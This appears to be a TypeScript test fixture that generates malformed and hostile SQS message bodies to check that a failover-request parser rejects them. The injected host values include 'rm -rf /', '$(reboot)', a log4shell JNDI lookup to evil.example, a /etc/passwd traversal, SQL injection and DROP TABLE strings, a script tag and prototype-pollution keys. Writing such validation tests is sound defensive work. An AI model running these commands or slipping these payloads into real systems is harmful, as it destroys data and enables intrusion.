// Failover-queue message bodies that are poison by construction: not JSON, too large, too deep, wrong
// types, unknown fields, unicode tricks, and host strings that look like injections. Every one must be
// rejected at the edge (parseFailoverRequest) and dead-lettered with its reason, never crash a function or
// fail the good messages of its batch. All are valid SQS bodies (SQS refuses some control characters, so
// those appear JSON-escaped).

export interface HostileBody {
  readonly label: string;
  readonly body: string;
}

const valid = {
  kind: 'NodeRemoved',
  nodeType: 'master',
  host: '10.9.9.9:5678',
  czxid: '4242',
  startupTime: 1_700_000_000_000,
  observedAt: 1_700_000_100_000,
  source: 'operator',
};

const withField = (key: string, value: unknown) => JSON.stringify({ ...valid, [key]: value });

const hostileHosts: ReadonlyArray<readonly [string, string]> = [
  ['sql injection', "10.0.0.1:5678' OR '1'='1"],
  ['shell injection', '10.0.0.1:5678; rm -rf /'],
  ['command substitution', '$(reboot):5678'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-looking host, literally
  ['log4shell', '${jndi:ldap://evil.example/a}:5678'],
  ['path traversal', '../../etc/passwd:5678'],
  ['znode path', '/dolphinscheduler/nodes/master/10.0.0.1:5678'],
  ['script tag', '<script>alert(1)</script>:5678'],
  ['wildcard', '*'],
  ['empty host', ''],
  ['percent', '%:5678'],
  ['no port', '10.0.0.1'],
  ['port zero', '10.0.0.1:0'],
  ['port too big', '10.0.0.1:65536'],
  ['leading zero octet', '010.0.0.1:5678'],
  ['octet too big', '10.0.0.256:5678'],
  ['leading space', ' 10.0.0.1:5678'],
  ['trailing newline', '10.0.0.1:5678\n'],
  ['nul byte', '10.0.0.1:5678\u0000'],
  ['substring of another host', '0.0.1:5678'],
  ['fullwidth digits', '１０.0.0.1:5678'],
  ['cyrillic homoglyph', 'mаster.example:5678'],
  ['right-to-left override', '10.0.0.1:5678\u202e'],
  ['zero-width space', '10.0.0.1\u200b:5678'],
  ['emoji', '🔥.example:5678'],
  ['ipv6 without brackets', '::1:5678'],
  ['bracketed non-address', '[10.0.0.1]:5678'],
  ['very long host', `${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(70)}:5678`],
  ['two ports', '10.0.0.1:5678:5679'],
  ['url', 'http://10.0.0.1:5678/'],
];

/**
 * Characters outside the Basic Multilingual Plane (emoji) JSON-escaped: real SQS accepts them, the local SQS
 * emulator refuses them, and the parsed value is the same either way.
 */
function sqsSafe(text: string): string {
  return text.replace(/[\ud800-\udbff][\udc00-\udfff]/g, (pair) =>
    [0, 1].map((i) => `\\u${pair.charCodeAt(i).toString(16).padStart(4, '0')}`).join(''),
  );
}

/** The hostile corpus (deterministic order). */
export function hostileBodies(): HostileBody[] {
  const bodies: HostileBody[] = [
    { label: 'not json', body: 'fail over everything' },
    { label: 'empty body', body: ' ' },
    { label: 'truncated json', body: '{"kind":"NodeRemoved","nodeType":"master"' },
    { label: 'json null', body: 'null' },
    { label: 'json array', body: JSON.stringify([valid]) },
    { label: 'json number', body: '42' },
    { label: 'json string', body: JSON.stringify(JSON.stringify(valid)) },
    { label: 'oversized (100 KiB)', body: withField('padding', 'x'.repeat(100 * 1024)) },
    { label: 'oversized multibyte', body: withField('padding', '€'.repeat(6_000)) },
    { label: 'deep array', body: `${'['.repeat(5_000)}${']'.repeat(5_000)}` },
    {
      label: 'deep object',
      body: `${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}`,
    },
    {
      label: 'deep value in a valid request',
      body: withField('czxid', JSON.parse(`${'['.repeat(50)}${']'.repeat(50)}`)),
    },
    { label: 'host is a number', body: withField('host', 10_000_000_001) },
    { label: 'host is an object', body: withField('host', { ip: '10.0.0.1', port: 5678 }) },
    { label: 'host is null', body: withField('host', null) },
    { label: 'unknown node type', body: withField('nodeType', 'admin') },
    { label: 'lower-case kind', body: withField('kind', 'noderemoved') },
    { label: 'czxid is a number', body: withField('czxid', 4242) },
    { label: 'czxid too long', body: withField('czxid', '9'.repeat(40)) },
    { label: 'startupTime is a string', body: withField('startupTime', '1700000000000') },
    { label: 'startupTime negative', body: withField('startupTime', -1) },
    { label: 'observedAt fractional', body: withField('observedAt', 1.5) },
    { label: 'observedAt NaN text', body: withField('observedAt', 'NaN') },
    { label: 'attempt negative', body: withField('attempt', -1) },
    { label: 'unknown source', body: withField('source', 'mallory') },
    { label: 'unknown field', body: withField('sql', "'; DROP TABLE instances; --") },
    { label: 'proto pollution', body: `{"__proto__":{"polluted":true},${JSON.stringify(valid).slice(1)}` },
    { label: 'constructor key', body: withField('constructor', { prototype: { polluted: true } }) },
    { label: 'missing fields', body: JSON.stringify({ host: valid.host }) },
    { label: 'escaped control characters', body: withField('source', 'operator\u0007\u001b[31m') },
    { label: 'byte order mark', body: `\ufeff${JSON.stringify({ ...valid, kind: 'Removed' })}` },
  ];
  for (const [label, host] of hostileHosts) {
    bodies.push({ label: `host: ${label}`, body: withField('host', host) });
  }
  return bodies.map((b) => ({ label: b.label, body: sqsSafe(b.body) }));
}
